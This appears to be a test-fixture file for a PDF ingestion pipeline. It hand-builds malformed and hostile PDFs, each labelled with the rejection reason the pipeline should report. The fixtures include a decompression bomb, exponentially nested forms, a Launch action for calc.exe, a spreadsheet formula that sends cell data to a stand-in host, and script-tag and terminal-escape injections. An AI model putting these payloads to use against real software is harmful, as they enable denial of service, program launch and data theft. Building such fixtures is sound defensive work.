@@ -1,0 +1,157 @@
+"""Plan files that mean harm or are broken, made by hand byte by byte: no library writes such PDFs."""
+
+from __future__ import annotations
+
+import io
+import random
+import zlib
+from collections.abc import Mapping
+
+FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
+CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
+WORDS = b"BT /F1 12 Tf 72 720 Td (Each winter people in Orlford become homeless.) Tj ET"
+
+
+def pdf(objects: Mapping[int, bytes]) -> bytes:
+    """A PDF of these objects, number 1 being the catalogue."""
+    out = bytearray(b"%PDF-1.7\n")
+    places = {}
+    for number, body in objects.items():
+        places[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    table = len(out)
+    last = max(objects)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
+    for number in range(1, last + 1):
+        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
+    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (last + 1, table)
+    return bytes(out)
+
+
+def stream(data: bytes, entries: bytes = b"") -> bytes:
+    """A stream object."""
+    return b"<</Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"
+
+
+def one_page(
+    content: bytes, *, catalog: bytes = CATALOG, font: bytes = FONT, more: Mapping[int, bytes] | None = None
+) -> bytes:
+    """A PDF of one page; `content` is a whole stream object or what goes into one."""
+    return pdf(
+        {
+            1: catalog,
+            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
+            b"/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>>>",
+            4: content if content.startswith(b"<<") else stream(content),
+            5: font,
+            **(more or {}),
+        }
+    )
+
+
+def in_unicode(text: str) -> bytes:
+    """A page that shows `text`, whatever characters it holds, by a font with a map to Unicode."""
+    codes = {character: number + 1 for number, character in enumerate(sorted(set(text)))}
+    shown = b"BT /F1 12 Tf 72 720 Td <" + b"".join(b"%02X" % codes[each] for each in text) + b"> Tj ET"
+    pairs = b" ".join(
+        b"<%02X> <%s>" % (code, character.encode("utf-16-be").hex().encode()) for character, code in codes.items()
+    )
+    mapping = (
+        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> "
+        b"endcodespacerange %d beginbfchar %s endbfchar endcmap end end" % (len(codes), pairs)
+    )
+    return one_page(shown, font=FONT.replace(b">>", b"/ToUnicode 6 0 R>>"), more={6: stream(mapping)})
+
+
+def many_pages(number: int) -> bytes:
+    """Pages that share their content."""
+    kids = b" ".join(b"%d 0 R" % (page + 5) for page in range(number))
+    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"
+    pages = {page_number + 5: page for page_number in range(number)}
+    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, number)
+    return pdf({1: CATALOG, 2: tree, 3: stream(WORDS), 4: FONT, **pages})
+
+
+def bomb(megabytes: int) -> bytes:
+    """A content stream of a few kilobytes that unpacks to so many megabytes of blanks."""
+    packer = zlib.compressobj(1)
+    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
+    return one_page(stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]"))
+
+
+def form(name: bytes, content: bytes) -> bytes:
+    """A form that draws `content` and may draw the form `name`."""
+    resources = b"/Resources<</Font<</F1 5 0 R>>/XObject<<" + name + b">>>>"
+    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]" + resources)
+
+
+def doubling_forms(depth: int) -> bytes:
+    """Each form draws the next one twice."""
+    forms = {number: form(b"/X %d 0 R" % (number + 1), b"/X Do /X Do ") for number in range(6, 6 + depth)}
+    return one_page(WORDS + b" /X Do", more={**forms, 6 + depth: form(b"", WORDS)})
+
+
+def encrypted() -> bytes:
+    """A sound PDF that needs a password."""
+    import pikepdf
+
+    buffer = io.BytesIO()
+    with pikepdf.open(io.BytesIO(one_page(WORDS))) as opened:
+        opened.save(buffer, encryption=pikepdf.Encryption(owner="o", user="secret", R=6))
+    return buffer.getvalue()
+
+
+def open_to_all() -> bytes:
+    """Encrypted with an empty password, as many publishers do: to be read like any other."""
+    import pikepdf
+
+    buffer = io.BytesIO()
+    with pikepdf.open(io.BytesIO(one_page(WORDS))) as opened:
+        opened.save(buffer, encryption=pikepdf.Encryption(owner="o", user="", R=4))
+    return buffer.getvalue()
+
+
+SOUND = one_page(WORDS)
+CODED = ""
+KILLED = "memory_limit timeout crashed"
+
+# Name: the file, and the reasons that may be named for it (blank: it has to be coded).
+HOSTILE: Mapping[str, tuple[bytes, str]] = {
+    "sound": (SOUND, CODED),
+    "zero": (b"", "empty_file"),
+    "one-byte": (b"%", "not_a_pdf"),
+    "header-only": (b"%PDF-1.7\n", "damaged"),
+    "cut-in-half": (SOUND[: len(SOUND) // 2], "damaged"),
+    "web-page": (b"<!DOCTYPE html><html><body><h1>404 Not Found</h1></body></html>", "not_a_pdf"),
+    "picture": (b"\x89PNG\r\n\x1a\n" + bytes(500), "not_a_pdf"),
+    "noise": (random.Random(7).randbytes(50_000), "not_a_pdf"),
+    "zeros": (bytes(50_000), "not_a_pdf"),
+    "after-a-header": (b"HTTP/1.1 200 OK\r\n\r\n" + SOUND, CODED),
+    "encrypted": (encrypted(), "encrypted"),
+    "encrypted-openly": (open_to_all(), CODED),
+    "tree-of-itself": (pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}), "damaged no_pages"),
+    "no-pages": (pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "damaged no_pages"),
+    "circle-of-references": (pdf({1: CATALOG, 2: b"3 0 R", 3: b"2 0 R"}), "damaged no_pages"),
+    "lying-count": (SOUND.replace(b"/Count 1>>", b"/Count 2147483647>>"), "damaged too_many_pages" + " coded"),
+    "table-of-itself": (
+        SOUND.replace(b"trailer\n<<", b"trailer\n<</Prev %d " % SOUND.rindex(b"xref\n0")),
+        CODED,
+    ),
+    "too-many-pages": (many_pages(5_001), "too_many_pages"),
+    "bomb": (bomb(900), KILLED),
+    "doubling-forms": (doubling_forms(28), KILLED),
+    "deep-arrays": (one_page(b"[" * 100_000 + b"]" * 100_000 + b" TJ " + WORDS), CODED),
+    "deep-dictionaries": (
+        one_page(WORDS, catalog=CATALOG.replace(b">>", b"/D " + b"<</A " * 20_000 + b"1" + b">>" * 20_001)),
+        CODED,
+    ),
+    "launches": (
+        one_page(WORDS, catalog=CATALOG.replace(b">>", b"/OpenAction<</S/Launch/F(calc.exe)>>>>")),
+        CODED,
+    ),
+    "formula": (in_unicode('=HYPERLINK("http://x/"&A1) people become homeless'), CODED),
+    "at-formula": (in_unicode("@SUM(1+1) people become homeless"), CODED),
+    "script": (in_unicode("<script>alert(1)</script> people become homeless"), CODED),
+    "controls": (in_unicode("people\x1b[2J be\x07come homeless \x9b31m"), CODED),
+}
